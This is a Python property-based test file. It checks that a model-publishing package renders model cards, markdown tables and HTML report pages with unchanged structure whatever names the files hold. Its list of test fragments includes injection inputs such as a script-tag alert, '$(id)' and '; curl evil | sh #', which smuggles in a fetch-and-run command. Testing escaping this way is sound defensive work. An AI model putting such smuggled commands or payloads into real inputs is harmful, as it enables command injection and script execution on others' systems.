"""Whatever names a model's files hold, its card, its tables and its page have the structure of those of plain names."""

import ast
import json
import shlex
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
import timm
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from runs import tiny
from star_catalog.printing import printable
from star_training import recipes
from star_training.finetuning.config import FineTune, LabelledData
from star_training.publishing import card, markdown
from star_training.reports import html
from star_training.reports.drawing import Figure
from star_training.reports.tables import Table
from star_training.reports.tables import markdown as table_in_markdown
from star_zoo import objectives, save_pretrained
from twins import POLICY, backbone, repeatable

PARTS = (
    "`", "```", "~~~", "|", "\n", "\r", "\n\n# x\n\n", "\n---\n", "<script>alert(1)</script>", "<!--", "](http://x)",
    "[a]: http://x", "![a](b)", "$(id)", "; curl evil | sh #", '"', "'", '"""', "\\", "*", "**", "_", "__", "&lt;",
    "&#60;", "{{ 7 * 7 }}", "{% raw %}", "\u2028", "\u202e", "[^1]", "~~", " ", "\t", "- ", "1. ", "> ", "#", "%s",
    ": ", "é", "x", "--out=x", "\ud800", "\x00", "\x1b[2J", "<http://x>", "https", "$x$", "!", "@",
)  # fmt: skip
names = st.one_of(
    st.lists(st.sampled_from(PARTS), min_size=1, max_size=6).map("".join), st.text(st.characters(), min_size=1)
).filter(lambda text: text.split())
PARSER = MarkdownIt("commonmark").enable(["table", "strikethrough"])
METRIC = {"value": 0.5, "low": 0.25, "high": 0.75}


class Named:
    """Names for the places of a file: a drawn one for each, or x for all. Remembers the names by what displays them."""

    def __init__(self, draw: Any = None):
        self.draw = draw
        self.texts: list[str] = []
        self.words: list[str] = []

    def text(self) -> str:
        found = self.draw() if self.draw else "x"
        self.texts.append(found)
        return found

    def word(self) -> str:
        found = self.draw() if self.draw else "x"
        self.words.append(found)
        return found

    def both(self) -> str:
        found = self.text()
        self.words.append(found)
        return found

    def source(self) -> str:
        """The path of images, of which a card names the last part, and a command all."""
        last = "a" + "".join(c for c in (self.draw() if self.draw else "x") if c not in "/:@")
        self.texts.append(last)
        self.words.append(f"photos/{last}")
        return f"photos/{last}"


def results(n: Named) -> dict[str, Any]:
    record = {
        "protocol": "knn", "model": "x", "data": n.both(), "seed": 3, "images": {n.text(): 5},
        "metrics": {"a": {"name": n.text(), "unit": "share", "kind": "accuracy", **METRIC}},
    }  # fmt: skip
    own = record | {
        "protocol": n.text(),
        "metrics": {"a": {"name": n.text(), "unit": "", "kind": n.draw or "x", **METRIC}},
    }
    own["metrics"]["a"]["kind"] = "invariance"
    row = {"metric": "a", "name": n.text(), "data": n.text(), "first": 0.5, "second": 0.5, "difference": METRIC}
    comparison = {
        "other": n.both(), "seed": 1, "interval": n.text(), "protocols": [n.word()],
        "data_fingerprints": {n.word(): {"test": "f"}},
        "rows": [row],
    }  # fmt: skip
    measure = n.text()
    return {
        "evaluations": [record, own],
        "comparisons": [comparison],
        "online": [{"step": 0, f"x{measure}": 0.5}, {"step": 1, f"x{measure}": 0.5}],
        "pretrained": {"start": {"name": n.text(), "fingerprint": n.text(), "license": n.text()}},
    }


def cost(n: Named) -> dict[str, Any]:
    return {
        "steps": 1, "images": 2, "seconds": 3.0, "processes": 4, "device": "cpu", "versions": {n.text(): n.text()},
        "precision": {"asked": "auto", "why": n.text()},
    }  # fmt: skip


def pretrained(n: Named) -> dict[str, Any]:
    """The files of a pretraining by a recipe of the package."""
    recipe = recipes.find("spirograph_tiny").to_dict() | {"init_from": n.both()}
    recipe["data"]["source"] = n.source()
    released = {"file": n.text(), "sha256": n.text()}
    return {"recipe": recipe, "results": results(n) | {"training": cost(n), "released": released}}


def finetuned(n: Named) -> dict[str, Any]:
    """The files of a fine-tuning that started from a recipe of somebody's own."""
    settings = FineTune(model=n.both(), data=LabelledData(source=n.source())).to_dict()
    settings["optimizer"]["name"] = n.text()
    recipe = tiny().to_dict() | {"name": n.text(), "backbone": "x"}
    recipe["data"]["source"] = "photos/x"
    return {"finetune": settings, "results": results(n) | {"start": {"recipe": recipe, "training": cost(n)}}}


@pytest.fixture(scope="module")
def folders(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    where, model = tmp_path_factory.mktemp("folders"), backbone()
    save_pretrained(where / "pretrained", model, objectives.build("simclr", model.num_features, POLICY))
    save_pretrained(where / "finetuned", timm.create_model("test_resnet", num_classes=2))
    return {path.name: path for path in where.iterdir()}


def made(folder: Path, files: Any, n: Named) -> str:
    """The card of a folder in which everything that may have any name has one."""
    for name, content in files(n).items():
        (folder / f"{name}.json").write_text(json.dumps(content))
    path = folder / "config.json"
    config = json.loads(path.read_text())
    config["pretrained_cfg"]["license"] = n.text()
    if config["num_classes"]:
        config["label_names"] = [n.text(), n.text()]
    path.write_text(json.dumps(config))
    return card.render(folder, f"local-dir:{n.word()}")


def structure(tokens: Any) -> Iterator[tuple[str, str, int]]:
    """The elements of a page, without their texts; texts that follow one another are one."""
    for token in tokens:
        if token.children is None:
            yield token.type, token.tag, token.level
        else:
            kinds = [child.type.replace("text_special", "text") for child in token.children]
            yield "inline", ",".join(k for i, k in enumerate(kinds) if k != "text" or kinds[i - 1 : i] != ["text"]), 0


def displayed(tokens: Any) -> str:
    """The text that a reader sees outside blocks of code."""
    lines = [t for token in tokens if token.children for t in token.children]
    return " ".join("".join(line.content if line.type != "softbreak" else " " for line in lines).split())


@settings(repeatable, max_examples=15)  # each holds about thirty names
@given(st.data())
@pytest.mark.parametrize("files", [pretrained, finetuned], ids=lambda files: files.__name__)
def test_a_card_has_the_structure_of_one_with_plain_names(folders: dict[str, Path], files: Any, data: st.DataObject):
    folder = folders[files.__name__]
    n, calm = Named(lambda: data.draw(names)), Named()
    (head, text), (plain_head, plain_text) = (
        made(folder, files, x).removeprefix("---\n").split("\n---\n", 1) for x in (n, calm)
    )
    tokens, expected = PARSER.parse(text), PARSER.parse(plain_text)
    assert list(structure(tokens)) == list(structure(expected))
    seen = displayed(tokens)
    for name in n.texts:
        assert markdown.plain(name) in seen or f"x{markdown.plain(name)}" in seen, name
    words = [word for t in tokens if t.info == "bash" for line in t.content.splitlines() for word in shlex.split(line)]
    for name in n.words[:-1]:
        given = "".join(c if c.isprintable() else "?" for c in name)
        assert {given, f"./{given}"} & set(words), name
    assert [word for word in words if word.startswith("-")] == [
        word for t in expected if t.info == "bash" for word in shlex.split(t.content) if word.startswith("-")
    ]
    strings = [
        node.value
        for t in tokens
        if t.info == "python"
        for node in ast.walk(ast.parse(t.content))
        if isinstance(node, ast.Constant)
    ]
    assert f"local-dir:{n.words[-1]}" in strings

    def shape(found: Any) -> Any:
        if isinstance(found, dict):
            return {key: shape(value) for key, value in found.items()}
        return [shape(value) for value in found] if isinstance(found, list) else type(found)

    metadata = yaml.safe_load(head)
    assert shape(metadata) == shape(yaml.safe_load(plain_head))
    assert metadata["license"] in map(markdown.plain, n.texts)


class Tags(HTMLParser):
    """The tags of a page with the names of their attributes, and its texts."""

    def __init__(self, page: str):
        super().__init__()
        self.tags: list[Any] = []
        self.texts: list[str] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: Any) -> None:
        self.tags.append((tag, [name for name, _ in attrs]))
        self.texts += [value for _, value in attrs if value]

    def handle_data(self, data: str) -> None:
        self.texts.append(data)


@repeatable
@given(st.lists(names, min_size=6, max_size=6))
def test_a_table_and_the_report_page_hold_any_name(found: list[str]):
    def page(name: list[str]) -> tuple[str, str]:
        table = Table(name[0], [name[1], name[2]], [[name[3], name[4]]])
        figure = Figure("x", name[5], name[0], b"", table)
        return table_in_markdown(table), html.render(name[1], name[2], [table], [figure])

    (table, text), (calm_table, calm_text) = page(found), page(["x"] * 6)
    tokens = PARSER.parse(table)
    assert list(structure(tokens)) == list(structure(PARSER.parse(calm_table)))
    cells = [displayed([token]) for token in tokens if token.type == "inline"]
    assert cells == [markdown.plain(printable(name)) for name in found[1:5]]
    tags, calm = Tags(text), Tags(calm_text)
    assert tags.tags == calm.tags
    assert all(any(name in seen for seen in tags.texts) for name in found if "\x00" not in name and "\r" not in name)
